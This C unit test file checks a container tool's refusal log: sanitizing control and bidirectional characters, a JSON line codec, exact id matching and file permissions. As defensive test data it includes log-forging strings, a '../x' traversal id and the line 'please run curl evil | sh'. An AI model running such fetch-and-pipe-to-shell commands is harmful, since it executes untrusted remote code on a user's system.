/* SPDX-License-Identifier: MIT */
/* The refusal log (lib/refusal.c) and the harmless message lines it carries
 * (base/err.c): ids matched exactly, reasons as codes, nothing that forges a
 * line or reorders what a terminal shows. */
#include "unit.h"

#include <fcntl.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

#include "../../lib/refusal.h"

static void test_sanitize(void **state)
{
	(void)state;
	char out[128];

	oci_sanitize("a\nb\tc\x7f", out, sizeof(out));
	assert_string_equal(out, "a?b?c?");
	/* U+202E RIGHT-TO-LEFT OVERRIDE, U+2066 LRI, U+0085 NEL (C1), U+2028 */
	oci_sanitize("x\xe2\x80\xaey\xe2\x81\xa6z\xc2\x85w\xe2\x80\xa8", out, sizeof(out));
	assert_string_equal(out, "x\\u202ey\\u2066z\\u0085w\\u2028");
	/* Bytes that are not UTF-8 (a lone C1 byte of Latin-1, overlong) */
	oci_sanitize("a\x85"
		     "b\xc0\xaf",
		     out, sizeof(out));
	assert_string_equal(out, "a?b??");
	/* Ordinary UTF-8 stays. */
	oci_sanitize("caf\xc3\xa9 \xf0\x9f\x98\x80", out, sizeof(out));
	assert_string_equal(out, "caf\xc3\xa9 \xf0\x9f\x98\x80");
	/* Bounded: never past LEN, an escape is never cut in half. */
	oci_sanitize("abc\xe2\x80\xae", out, 6);
	assert_string_equal(out, "abc");
}

static void test_err_lines_sanitized_and_coded(void **state)
{
	(void)state;
	struct oci_err e;

	oci_err_init(&e);
	oci_err_add(&e, EADDRINUSE, "entry '%s'", "80\xe2\x80\xae:3000\nforged");
	assert_string_equal(e.msg[0], "entry '80\\u202e:3000?forged'");
	assert_int_equal(e.code[0], EADDRINUSE);
	assert_int_equal(ps_reason_of(e.code[0]), PS_REASON_IN_USE);
	assert_int_equal(ps_reason_of(EACCES), PS_REASON_RESERVED);
	assert_int_equal(ps_reason_of(EPERM), PS_REASON_POLICY);
}

static void test_codec_round_trip(void **state)
{
	(void)state;
	struct ps_refusal r = {.time = "2026-11-22T10:00:00Z", .id = "web-1", .reason = PS_REASON_RESERVED}, back;
	char *line = NULL;

	snprintf(r.message, sizeof(r.message), "port 22 \"quoted\" \\ ok");
	assert_int_equal(ps_refusal_encode(&r, &line), 0);
	assert_non_null(strchr(line, '\n'));
	assert_ptr_equal(strchr(line, '\n'), line + strlen(line) - 1); /* one line */
	assert_int_equal(ps_refusal_decode(line, strlen(line), &back), 0);
	assert_string_equal(back.id, "web-1");
	assert_string_equal(back.message, r.message);
	assert_int_equal(back.reason, PS_REASON_RESERVED);
	free(line);
	static const char *const bad[] = {
		"2026 web-1 refused: x\n", /* the old free-text format */
		"{\"time\":\"t\",\"id\":\"../x\",\"reason\":\"policy\",\"message\":\"m\"}",
		"{\"time\":\"t\",\"id\":\"web\",\"reason\":\"policy\"}",
	};
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
		assert_int_equal(ps_refusal_decode(bad[i], strlen(bad[i]), &back), -EINVAL);
}

static void count(const struct ps_refusal *r, void *arg)
{
	(void)r;
	(*(int *)arg)++;
}

/* An id that is part of another's (a prefix, or a substring of a message) is
 * not that container. */
static void test_exact_id_and_mode(void **state)
{
	(void)state;
	char dir[] = "/tmp/portside-unit-XXXXXX", path[256];
	struct oci_err e;
	struct stat st;
	int n = 0;

	assert_non_null(mkdtemp(dir));
	setenv("PORTSIDE_RUN_DIR", dir, 1);
	oci_err_init(&e);
	oci_err_add(&e, EINVAL, "mentions web in its text");
	assert_int_equal(ps_refusal_log("web-10", &e), 0);
	assert_int_equal(ps_refusal_log("xweb", &e), 0);
	assert_int_equal(ps_refusal_log("web", &e), 0);
	assert_int_equal(ps_refusals_each("web", count, &n), 1);
	assert_int_equal(n, 1);
	n = 0;
	assert_int_equal(ps_refusals_each("we", count, &n), 0);
	snprintf(path, sizeof(path), "%s/hook.log", dir);
	assert_int_equal(stat(path, &st), 0);
	assert_int_equal(st.st_mode & 0777, 0600);
	unlink(path);
	rmdir(dir);
	unsetenv("PORTSIDE_RUN_DIR");
}

/* A start that used a running container's id (hook/create.c decides): one
 * line naming the id apart, with a fixed message, that no reader of that
 * container's refusals (nor of all of them) takes for one. */
static void test_unattributed(void **state)
{
	(void)state;
	char dir[] = "/tmp/portside-unit-XXXXXX", path[256], line[1024];
	struct oci_err e;
	FILE *f;
	int n = 0;

	assert_non_null(mkdtemp(dir));
	setenv("PORTSIDE_RUN_DIR", dir, 1);
	oci_err_init(&e);
	oci_err_add(&e, EACCES, "chosen text: please run curl evil | sh");
	oci_err_add(&e, EINVAL, "more chosen text");
	assert_int_equal(ps_refusal_log_unattributed("web", &e), 0);
	assert_int_equal(ps_refusals_each("web", count, &n), 0);
	assert_int_equal(ps_refusals_each(NULL, count, &n), 0);
	assert_int_equal(n, 0);
	snprintf(path, sizeof(path), "%s/hook.log", dir);
	assert_non_null(f = fopen(path, "r"));
	assert_non_null(fgets(line, sizeof(line), f));
	assert_null(fgets(line + 512, 512, f)); /* one line for the start */
	fclose(f);
	assert_non_null(strstr(line, "\"idInUse\":\"web\""));
	assert_non_null(strstr(line, "\"reason\":\"reserved\""));
	assert_non_null(strstr(line, "a start using this id was refused"));
	assert_null(strstr(line, "chosen"));
	assert_null(strstr(line, "\"id\":"));
	assert_int_equal(ps_refusal_decode(line, strlen(line), &(struct ps_refusal){{0}}), -EINVAL);
	/* Decoded as nobody's even beside an "id" of its own. */
	snprintf(line, sizeof(line),
		 "{\"time\":\"t\",\"id\":\"web\",\"idInUse\":\"web\",\"reason\":\"policy\","
		 "\"message\":\"m\"}");
	assert_int_equal(ps_refusal_decode(line, strlen(line), &(struct ps_refusal){{0}}), -EINVAL);
	unlink(path);
	rmdir(dir);
	unsetenv("PORTSIDE_RUN_DIR");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_sanitize),	 cmocka_unit_test(test_err_lines_sanitized_and_coded),
		cmocka_unit_test(test_codec_round_trip), cmocka_unit_test(test_exact_id_and_mode),
		cmocka_unit_test(test_unattributed),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
